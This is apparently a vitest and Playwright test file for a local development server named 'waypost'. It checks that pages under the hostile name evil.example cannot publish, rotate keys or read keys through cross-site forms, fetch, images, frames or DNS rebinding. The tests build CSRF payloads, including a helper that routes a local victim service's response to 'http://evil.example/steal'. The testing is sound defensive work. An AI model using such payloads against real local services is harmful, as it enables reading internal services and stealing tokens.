// @module-tag long
import { request } from "node:http";
import { Agent, fetch as fetchUndici } from "undici";
import type { Browser, BrowserContext, Page } from "playwright-core";
import { afterAll, beforeAll, describe, expect, onTestFinished, test } from "vitest";
import { buildConsole } from "../../scripts/buildConsole.js";
import {
  developmentToken,
  readCredentials,
  startDestination,
  startWaypost,
  temporaryFolder,
} from "../server/waypost.ts";
import { launchBrowser } from "./chromium.ts";

// Pages of other sites in a real browser, and programs, against real servers. Each foreign site is a name
// that the browser resolves to this machine, as after a rebinding of the name.

const rules = ["--host-resolver-rules=MAP *.example 127.0.0.1"];
const found = await launchBrowser(rules);
if (typeof found === "string") process.stderr.write(`the tests of foreign pages are skipped: ${found}\n`);

const startDevelopment = (...more: string[]) => startWaypost(["dev", "--port", "0", ...more]);

/** Serves a page of a stranger, and returns its address under the name of the stranger. */
async function servePage(html: string): Promise<string> {
  const { url } = await startDestination(() => ({
    status: 200,
    headers: { "content-type": "text/html", "referrer-policy": "unsafe-url" },
    body: `<!doctype html><title>evil</title>${html}`,
  }));
  return url.replace("127.0.0.1", "evil.example");
}

/** Starts a service of this machine that must not be reached. */
const startVictim = () => startDestination(() => ({ status: 200, body: "secret" }));

/** Returns the address by which a page publishes to a service of this machine and gets its response. */
function attackUrl(server: string, victim: string, token: string): string {
  const callback = encodeURIComponent("http://evil.example/steal");
  return `${server}/v2/publish/${victim}/?svc_token=${token}&svc-method=GET&svc-callback=${callback}`;
}

async function readKeys(server: string): Promise<unknown> {
  const reply = await fetch(`${server}/v2/keys`, {
    headers: { authorization: `Bearer ${developmentToken}` },
  });
  return reply.json();
}

describe.skipIf(typeof found === "string")("a page of another site, in a browser", () => {
  const browser = found as Browser;
  let context: BrowserContext | null = null;
  beforeAll(() => buildConsole());
  afterAll(() => browser.close());

  async function openPage(address: string): Promise<Page> {
    context ??= await browser.newContext();
    context.setDefaultTimeout(120_000);
    const page = await context.newPage();
    onTestFinished(() => page.close());
    await page.goto(address);
    return page;
  }

  /** Clicks on the only link or button, and returns the status and the text of the page that follows. */
  async function follow(page: Page): Promise<{ status: number; text: string }> {
    const [response] = await Promise.all([
      page.waitForResponse((one) => one.request().isNavigationRequest()),
      page.locator("a, button").click(),
    ]);
    return { status: response.status(), text: await response.text() };
  }

  test("cannot publish by a form, and so reads no service of this machine", async () => {
    const server = await startDevelopment();
    const victim = await startVictim();
    const action = attackUrl(server.url, victim.url, developmentToken);
    const page = await openPage(
      await servePage(`<form method=post action="${action}"><button>x</button></form>`),
    );
    const { status, text } = await follow(page);
    expect([status, text]).toEqual([403, expect.stringContaining("--cors-origin http://evil.example")]);
    expect(victim.arrivals).toEqual([]);
  });

  test("may send a token that is a secret, to a server that is not for development", async () => {
    const data = temporaryFolder();
    const server = await startWaypost(["start", "--port", "0", "--data", data]);
    const token = /^WAYPOST_TOKEN="(.*)"$/m.exec(await readCredentials("--data", data))?.[1] ?? "";
    const action = attackUrl(server.url, "https://e.example", token);
    const page = await openPage(
      await servePage(`<form method=post action="${action}"><button>x</button></form>`),
    );
    expect((await follow(page)).status).toBe(200);
  });

  test("changes and publishes nothing by fetch, images, frames and links", async () => {
    const server = await startDevelopment();
    const victim = await startVictim();
    const before = await readKeys(server.url);
    const rotate = `${server.url}/v2/keys/rotate?force=true&svc_token=${developmentToken}`;
    const page = await openPage(await servePage(`<a href="${rotate}">x</a>`));
    const settled = await page.evaluate<string[]>(`Promise.all([
      fetch(${JSON.stringify(attackUrl(server.url, victim.url, developmentToken))},
        { method: "POST", mode: "no-cors" }).then(() => "sent", () => "blocked"),
      ...["img", "iframe", "script"].map((tag) => new Promise((resolve) => {
        const made = document.createElement(tag);
        made.onload = made.onerror = () => resolve(tag);
        made.src = ${JSON.stringify(rotate)};
        document.body.append(made);
      })),
    ])`);
    expect(settled).toHaveLength(4);
    expect((await follow(page)).status).toBe(403);
    expect(await readKeys(server.url)).toEqual(before);
    expect(victim.arrivals).toEqual([]);
  });

  test("whose name was rebound to this server gets nothing but the name of the setting", async () => {
    const server = await startDevelopment();
    const rebound = server.url.replace("127.0.0.1", "evil.example");
    const page = await openPage(`${rebound}/v2/health`);
    const read = (method: string, path: string): Promise<[number, string]> =>
      page.evaluate(`fetch(${JSON.stringify(path)}, { method: "${method}",
        headers: { authorization: "Bearer ${developmentToken}" }, ${method === "POST" ? 'body: "x"' : ""} })
        .then(async (reply) => [reply.status, await reply.text()])`);
    const refusal = [403, expect.stringContaining("--allow-host evil.example,")];
    expect(await read("GET", "/v2/keys")).toEqual(refusal);
    expect(await read("POST", "/v2/publish/https://e.example")).toEqual(refusal);
    expect(await read("POST", "/console/session")).toEqual(refusal);
  });

  test("opens the console by a link, and the console works", async () => {
    const server = await startDevelopment();
    const page = await openPage(await servePage(`<a href="${server.url}/console/">x</a>`));
    await page.locator("a").click();
    await page.getByRole("button", { name: "Token" }).click();
    await page.getByRole("textbox", { name: "Token" }).fill(developmentToken);
    await page.getByRole("button", { name: "Sign in" }).click();
    await page.locator("nav.side").waitFor({ state: "attached" });
    expect(new URL(page.url()).host).toBe(new URL(server.url).host);
  });

  test("has a link that approves a step of a run", async () => {
    const server = await startDevelopment();
    const endpoint = await startDestination(() => ({ status: 200, after: 600_000 }));
    const headers = { authorization: `Bearer ${developmentToken}` };
    const post = async (path: string, body: object, more: Record<string, string> = {}) => {
      const sent = { method: "POST", headers: { ...headers, ...more }, body: JSON.stringify(body) };
      return (await (await fetch(`${server.url}${path}`, sent)).json()) as Record<string, unknown>;
    };
    const { workflowRunId } = await post(`/v2/trigger/${endpoint.url}`, {});
    const step = { stepId: 1, stepType: "WaitForWebhook", stepName: "approve", concurrent: 1 };
    const wait = { url: endpoint.url, timeout: "1d", timeoutUrl: endpoint.url, step };
    const run = { "upstash-workflow-runid": String(workflowRunId) };
    expect(await post("/v2/wait/evt_1", wait, run)).toMatchObject({ waits: true });
    const link = `${server.url}/v2/workflows/hooks/defaultUser/${String(workflowRunId)}/evt_1?ok=1`;
    const page = await openPage(await servePage(`<a href="${link}">x</a>`));
    expect(await follow(page)).toEqual({ status: 200, text: expect.stringContaining('"accepted":true') });
  });
});

describe("a program", () => {
  /** Reads the keys with this header Host. Returns the status and the body. */
  const readAs = (server: string, host: string): Promise<[number, string]> =>
    new Promise((resolve, reject) => {
      const headers = { host, authorization: `Bearer ${developmentToken}` };
      const sent = request(`${server}/v2/keys`, { headers, agent: false }, (response) => {
        let text = "";
        response.on("data", (part: Buffer) => (text += part.toString()));
        response.on("end", () => resolve([response.statusCode ?? 0, text]));
      });
      sent.on("error", reject).end();
    });

  test("is served by the names of containers, tunnels and --allow-host, and by no other name", async () => {
    const names = ["--public-url", "https://tunnel.example", "--allow-host", "queue.example,Other.example"];
    const { url } = await startDevelopment(...names);
    for (const host of [
      "waypost:8080",
      "host.docker.internal:8080",
      "tunnel.example",
      "queue.example",
      "other.example",
    ])
      expect((await readAs(url, host))[0], host).toBe(200);
    expect(await readAs(url, "evil.example")).toEqual([
      403,
      expect.stringContaining("--allow-host evil.example,"),
    ]);
  });

  test("of Node.js publishes with fetch, which sends Sec-Fetch-Mode", async () => {
    const { url } = await startDevelopment();
    const sent = { method: "POST", headers: { authorization: `Bearer ${developmentToken}` }, body: "x" };
    expect((await fetch(`${url}/v2/publish/https://e.example`, sent)).status).toBe(200);
    const dispatcher = new Agent();
    onTestFinished(() => dispatcher.close());
    expect((await fetchUndici(`${url}/v2/publish/https://e.example`, { ...sent, dispatcher })).status).toBe(
      200,
    );
  });
});
